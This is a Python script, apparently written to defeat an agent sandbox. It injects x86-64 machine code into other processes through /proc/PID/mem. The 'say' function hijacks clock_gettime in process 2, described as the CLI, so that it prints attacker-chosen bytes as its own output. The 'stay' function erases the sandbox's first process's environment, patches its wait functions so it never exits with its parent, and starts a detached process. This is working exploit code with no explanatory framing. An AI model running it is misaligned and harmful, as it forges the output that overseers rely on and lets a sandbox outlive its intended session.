# What a program inside can do to another of its sandbox by writing over the code of its C library, through /proc/PID/mem:
# no seccomp filter stops that between programs of one account. For x86-64. How it is called:
#   say BASE64   the CLI (process 2) itself writes these bytes to its own output
#   stay         the sandbox's first process forgets to end with its parent, and its marker
import base64, ctypes, os, struct, sys, time

libc = ctypes.CDLL(None)

def base(pid):
    return next(int(line.split('-')[0], 16) for line in open(f'/proc/{pid}/maps') if '/libc.so.6' in line)

def in_process(pid, address):
    return address - base('self') + base(pid)

def function(pid, name):
    return in_process(pid, ctypes.cast(getattr(libc, name), ctypes.c_void_p).value)

def put(mem, address, data):
    mem.seek(address)
    mem.write(data)

def jump(address):
    return b'\x48\xb8' + struct.pack('<Q', address) + b'\xff\xe0'

def say(pid, message):
    flag = in_process(pid, ctypes.addressof(ctypes.c_long.in_dll(libc, 're_syntax_options')))  # unused, and 0
    cave = function(pid, 'vfwprintf')  # long, and called by nobody
    code = (
        b'\x57\x56\x52\x51\x41\x53'
        + b'\x48\xb8' + struct.pack('<Q', flag) + b'\xb9\x01\0\0\0\x87\x08\x85\xc9\x75\x20'  # once
        + b'\xb8\x01\0\0\0\xbf\x01\0\0\0\x48\xbe' + struct.pack('<Q', cave + 200)
        + b'\x48\xba' + struct.pack('<Q', len(message)) + b'\x0f\x05'  # write(1, message, length)
        + b'\x41\x5b\x59\x5a\x5e\x5f\xb8\xe4\0\0\0\x0f\x05\xc3'  # clock_gettime, as before
    )
    with open(f'/proc/{pid}/mem', 'r+b', buffering=0) as mem:
        put(mem, cave + 200, message)
        put(mem, cave, code)
        put(mem, function(pid, 'clock_gettime'), jump(cave))
        for _ in range(250):
            mem.seek(flag)
            if mem.read(1) == b'\x01':
                return 'said'
            time.sleep(0.02)

def stay(pid):
    fields = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
    env_start, env_end = int(fields[47]), int(fields[48])
    cave = function(pid, 'vfwprintf')
    code = (
        b'\xb8\x9d\0\0\0\xbf\x01\0\0\0\x31\xf6\x0f\x05'  # prctl(PR_SET_PDEATHSIG, 0)
        + b'\xb8\x3d\0\0\0\x48\xc7\xc7\xff\xff\xff\xff\x31\xf6\x31\xd2\x4d\x31\xd2\x0f\x05\xeb\xe9'  # wait4(-1), for ever
    )
    for path in (f'/proc/{pid}/mem', f'/proc/{pid}/task/{pid}/mem'):
        try:
            with open(path, 'r+b', buffering=0) as mem:
                put(mem, env_start, b'\0' * (env_end - env_start))
                put(mem, cave, code)
                for name in ('wait', 'waitpid', 'wait4'):
                    put(mem, function(pid, name), jump(cave))
            break
        except OSError as error:
            print(path, error.strerror)
    if os.fork() == 0:  # an orphan, whose end wakes the first process
        if os.fork() == 0:
            time.sleep(0.1)
        os._exit(0)
    time.sleep(0.4)
    if os.fork() == 0:
        os.setsid()
        os.execve('/bin/sleep', ['sleep', '300.41'], {})
    return 'stayed'

print(say(2, base64.b64decode(sys.argv[2])) if sys.argv[1] == 'say' else stay(1), flush=True)
